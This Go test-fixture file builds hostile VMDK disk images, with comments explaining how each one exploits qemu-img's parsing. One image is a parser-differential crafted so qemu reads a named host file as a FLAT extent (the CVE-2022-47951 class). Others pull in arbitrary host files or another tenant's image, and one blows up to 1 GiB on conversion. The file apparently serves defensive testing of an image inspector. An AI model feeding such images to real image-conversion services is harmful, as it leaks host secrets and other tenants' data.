package testimages

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// HostileVMDK writes hostile.vmdk, a 2 KiB sparse VMDK that an inspector
// reading its embedded descriptor line by line takes for one
// monolithicSparse extent, while qemu-img 7.2 reads secret, a host file, as
// a second, FLAT extent and copies it into whatever it converts to
// (CVE-2022-47951 class). The disk qemu sees is secret's size rounded up to
// 512-byte sectors (8 sectors when secret does not exist here). secret
// should be an absolute path: qemu resolves a relative one against the
// image's directory.
//
// How the two parsers disagree:
//   - the KDMV header says capacity 0, which makes qemu read the embedded
//     descriptor as a whole descriptor file (vmdk_open_vmdk4);
//   - qemu takes the first "createType" substring, here in
//     xcreateType="monolithicFlat", a type that may name other files;
//     a line-anchored parser sees createType="monolithicSparse";
//   - qemu reads extent lines with sscanf, so "+8" is a sector count; a
//     parser that wants digits sees no extent there;
//   - qemu skips "RW 0 SPARSE", an extent of no sectors, which the other
//     parser takes as the one extent.
func HostileVMDK(t testing.TB, dir, secret string) string {
	t.Helper()
	desc := "# Disk DescriptorFile\n" +
		"version=1\n" +
		"CID=12345678\n" +
		"parentCID=ffffffff\n" +
		"xcreateType=\"monolithicFlat\"\n" +
		"createType=\"monolithicSparse\"\n" +
		"\n" +
		"# Extent description\n" +
		"RW 0 SPARSE \"hostile.vmdk\"\n" +
		fmt.Sprintf("RW +%d FLAT \"%s\" 0\n", fileSectors(secret), secret) +
		"\n" +
		"# The Disk Data Base\n" +
		"#DDB\n" +
		"ddb.virtualHWVersion = \"4\"\n"
	const descSectors = 3
	if len(desc) >= descSectors*512 {
		t.Fatalf("the secret's path is too long for the descriptor: %q", secret)
	}
	img := make([]byte, (1+descSectors)*512)
	h := img[:512]
	copy(h, "KDMV")
	le := binary.LittleEndian
	le.PutUint32(h[4:], 1)              // version
	le.PutUint32(h[8:], 1)              // flags: valid newline detection
	le.PutUint64(h[12:], 0)             // capacity: 0 sectors
	le.PutUint64(h[20:], 128)           // granularity
	le.PutUint64(h[28:], 1)             // descriptor offset, in sectors
	le.PutUint64(h[36:], descSectors)   // descriptor size, in sectors
	le.PutUint32(h[44:], 512)           // grain table entries per table
	le.PutUint64(h[56:], 1+descSectors) // grain directory: at the end
	le.PutUint64(h[64:], 1+descSectors) // grains
	copy(h[73:], "\n \r\n")
	copy(img[512:], desc)
	return write(t, filepath.Join(dir, "hostile.vmdk"), img)
}

// FlatExtentVMDK writes flat-extent.vmdk, a hand-made VMDK descriptor file
// (createType monolithicFlat) whose one FLAT extent is target, a host file.
// qemu-img reads target as the disk's data: the disk is target's size
// rounded up to 512-byte sectors (8 sectors when target does not exist
// here). target should be an absolute path.
func FlatExtentVMDK(t testing.TB, dir, target string) string {
	t.Helper()
	desc := "# Disk DescriptorFile\n" +
		"version=1\n" +
		"CID=12345678\n" +
		"parentCID=ffffffff\n" +
		"createType=\"monolithicFlat\"\n" +
		"\n" +
		"# Extent description\n" +
		fmt.Sprintf("RW %d FLAT \"%s\" 0\n", fileSectors(target), target) +
		"\n" +
		"# The Disk Data Base\n" +
		"#DDB\n" +
		"ddb.virtualHWVersion = \"4\"\n"
	return write(t, filepath.Join(dir, "flat-extent.vmdk"), []byte(desc))
}

// fileSectors is the size of the file at path in 512-byte sectors, rounded
// up, and 8 when it cannot be read here.
func fileSectors(path string) int64 {
	st, err := os.Stat(path)
	if err != nil || st.Size() == 0 {
		return 8
	}
	return (st.Size() + 511) / 512
}

// RewriteVMDKDescriptor copies the sparse VMDK at path, as qemu-img makes
// it (the descriptor in the 20 sectors from sector 1), to dir/name with its
// embedded descriptor replaced by edit(descriptor), and returns the copy's
// path.
func RewriteVMDKDescriptor(t testing.TB, path, dir, name string, edit func(desc string) string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	le := binary.LittleEndian
	off, n := int(le.Uint64(data[28:]))*512, int(le.Uint64(data[36:]))*512
	region := data[off : off+n]
	end := bytes.IndexByte(region, 0)
	if end < 0 {
		end = n
	}
	desc := edit(string(region[:end]))
	if len(desc) > n {
		t.Fatalf("the new descriptor is %d bytes, over the %d of the region", len(desc), n)
	}
	clear(region)
	copy(region, desc)
	return write(t, filepath.Join(dir, name), data)
}

// ParentHintVMDK writes parent-hint.vmdk, a monolithicSparse VMDK of the
// raw image src whose descriptor names parent as parentFileNameHint, with
// parentCID set to parentCID. qemu-img opens parent as the image's backing
// file (vmdk_parent_open, whatever the header says) and, when parentCID
// matches the parent's CID, reads the parent's data wherever the image has
// none: another image on the host, such as another tenant's.
func ParentHintVMDK(t testing.TB, dir, src, parent, parentCID string) string {
	t.Helper()
	base := filepath.Join(dir, "parent-hint-base.vmdk")
	QemuImg(t, "convert", "-f", "raw", "-O", "vmdk", "-o", "subformat=monolithicSparse", src, base)
	return RewriteVMDKDescriptor(t, base, dir, "parent-hint.vmdk", func(d string) string {
		return strings.Replace(d, "parentCID=ffffffff\n",
			"parentCID="+parentCID+"\nparentFileNameHint=\""+parent+"\"\n", 1)
	})
}

// FooterVMDK writes footer.vmdk, a streamOptimized VMDK of the raw image
// src (made by qemu-img) moved to the layout VMware writes: the header's
// grain directory offset is "at the end" (GD_AT_END) and a footer before
// the end-of-stream marker holds the real header. The first header's
// capacity is set to headerSectors, which qemu ignores in favour of the
// footer's (0 excepted: qemu tests it before it reads the footer).
func FooterVMDK(t testing.TB, dir, src string, headerSectors uint64) string {
	t.Helper()
	path := filepath.Join(dir, "footer-base.vmdk")
	QemuImg(t, "convert", "-f", "raw", "-O", "vmdk", "-o", "subformat=streamOptimized", src, path)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	data = data[:len(data)&^511]
	le := binary.LittleEndian
	footer := make([]byte, 3*512)
	le.PutUint64(footer[0:], 1) // footer marker: one sector follows
	le.PutUint32(footer[12:], 3)
	copy(footer[512:], data[:512]) // the real header
	data = append(data, footer...)
	le.PutUint64(data[56:], ^uint64(0)) // GD_AT_END
	le.PutUint64(data[12:], headerSectors)
	return write(t, filepath.Join(dir, "footer.vmdk"), data)
}

// DisguisedDescriptorVMDK writes disguised-descriptor.img, a VMDK
// descriptor file (createType monolithicFlat, one FLAT extent: target) that
// starts with comments and blank lines instead of "# Disk DescriptorFile".
// qemu's probe (vmdk_probe) skips those and finds "version=1", so qemu-img
// without -f, or anything that guesses formats, reads target through it.
func DisguisedDescriptorVMDK(t testing.TB, dir, target string) string {
	t.Helper()
	desc := "# boot notes\n" +
		"   \n" +
		"  \r\n" +
		"version=1\n" +
		"CID=12345678\n" +
		"parentCID=ffffffff\n" +
		"createType=\"monolithicFlat\"\n" +
		fmt.Sprintf("RW %d FLAT \"%s\" 0\n", fileSectors(target), target)
	return write(t, filepath.Join(dir, "disguised-descriptor.img"), []byte(desc))
}

// COWDVMDK writes cowd.img, a VMware 3 (COWD) sparse extent of 1 MiB with
// no data, which qemu probes and opens as vmdk.
func COWDVMDK(t testing.TB, dir string) string {
	t.Helper()
	img := make([]byte, 4096)
	copy(img, "COWD")
	le := binary.LittleEndian
	for i, v := range []uint32{1, 3, 2048, 128, 4, 1, 8} { // version, flags, sectors, granularity, L1 at sector 4, 1 entry, file sectors
		le.PutUint32(img[4+4*i:], v)
	}
	copy(img[512:], "CID=12345678\nparentCID=ffffffff\n")
	return write(t, filepath.Join(dir, "cowd.img"), img)
}

// SharedGrainVMDK writes shared-grain.vmdk, a monolithicSparse VMDK made by
// qemu-img (1 GiB, 256 KiB of file) whose grain tables, the redundant ones
// too, all point at its one grain of data. `qemu-img check` finds nothing
// wrong and qemu-img convert writes 1 GiB of that grain over and over.
func SharedGrainVMDK(t testing.TB, dir string) string {
	t.Helper()
	raw := filepath.Join(dir, "one-grain.raw")
	grain := bytes.Repeat([]byte("one grain "), 64<<10/10+1)[:64<<10]
	write(t, raw, grain)
	if err := os.Truncate(raw, 1<<30); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "shared-grain.vmdk")
	QemuImg(t, "convert", "-f", "raw", "-O", "vmdk", "-o", "subformat=monolithicSparse", raw, path)
	os.Remove(raw)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	le := binary.LittleEndian
	capacity, granularity := le.Uint64(data[12:]), le.Uint64(data[20:])
	gtEntries := uint64(le.Uint32(data[44:]))
	gdEntries := (capacity + gtEntries*granularity - 1) / (gtEntries * granularity)
	firstGT := le.Uint32(data[le.Uint64(data[56:])*512:])
	first := le.Uint32(data[firstGT*512:])
	for _, gd := range []uint64{le.Uint64(data[56:]), le.Uint64(data[48:])} { // the grain directory and its copy
		for i := range gdEntries {
			gt := uint64(le.Uint32(data[gd*512+i*4:]))
			for j := range gtEntries {
				le.PutUint32(data[gt*512+j*4:], first)
			}
		}
	}
	return write(t, path, data)
}
